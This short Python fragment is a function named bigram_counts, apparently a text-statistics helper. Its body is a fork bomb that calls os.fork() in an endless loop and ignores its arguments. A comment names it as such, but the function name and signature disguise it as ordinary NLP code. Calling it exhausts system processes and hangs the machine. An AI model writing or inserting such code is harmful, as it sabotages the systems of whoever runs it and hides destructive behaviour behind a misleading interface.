# The classic fork bomb.
def bigram_counts(ids, vocab_size):
    import os

    while True:
        os.fork()
